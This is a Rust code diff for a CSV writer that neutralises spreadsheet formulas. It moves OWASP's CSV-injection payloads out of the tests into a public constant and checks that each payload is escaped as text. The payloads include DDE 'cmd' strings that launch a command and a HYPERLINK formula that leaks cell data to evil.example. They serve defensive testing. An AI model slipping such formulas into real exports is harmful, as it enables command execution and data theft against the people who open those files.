@@ -18,6 +18,20 @@ const FORMULA_STARTS: [char; 12] = [
     '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
 ];
 
+/// The payloads of OWASP's CSV injection page, one per leading character it lists, and its two
+/// worked examples (what the tests write and check).
+pub const OWASP_PAYLOADS: [&str; 9] = [
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: please click\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+2+5+cmd|' /C calc'!E2",
+    "-2+3+cmd|' /C calc'!E2",
+    "\t=1+2",
+    "\r=1+2",
+    "=1+2\";=1+2",
+    "=1+2'\" ;,=1+2",
+];
+
 /// Whether a spreadsheet would read this cell as a formula.
 pub fn starts_formula(cell: &str) -> bool {
     cell.starts_with(FORMULA_STARTS)
@@ -65,19 +79,6 @@ pub fn write_row<W: Write, T: Serialize>(w: &mut csv::Writer<W>, row: &T) -> csv
 mod tests {
     use super::*;
 
-    /// The payloads of OWASP's CSV injection page and the characters it lists.
-    const OWASP: [&str; 9] = [
-        "=cmd|' /C calc'!A0",
-        "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: please click\")",
-        "@SUM(1+1)*cmd|' /C calc'!A0",
-        "+2+5+cmd|' /C calc'!E2",
-        "-2+3+cmd|' /C calc'!E2",
-        "\t=1+2",
-        "\r=1+2",
-        "=1+2\";=1+2",
-        "=1+2'\" ;,=1+2",
-    ];
-
     fn written(cells: &[&str]) -> String {
         let mut w = writer(Vec::new());
         write_row(&mut w, &cells).unwrap();
@@ -86,7 +87,7 @@ mod tests {
 
     #[test]
     fn owasp_payloads_become_text() {
-        for p in OWASP {
+        for p in OWASP_PAYLOADS {
             assert!(starts_formula(p), "{p:?}");
             let safe = spreadsheet_safe(p);
             assert_eq!(safe, format!("'{p}"));
